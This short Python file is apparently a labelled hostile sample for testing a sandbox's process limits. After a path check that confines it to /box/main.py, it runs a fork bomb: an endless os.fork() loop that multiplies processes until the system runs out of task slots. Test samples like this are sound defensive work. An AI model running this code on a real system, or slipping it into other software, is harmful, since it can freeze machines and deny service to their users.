# /// hostile
# attack = "Every process forks for ever."
# reason = "tasks"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os

while True:
    os.fork()
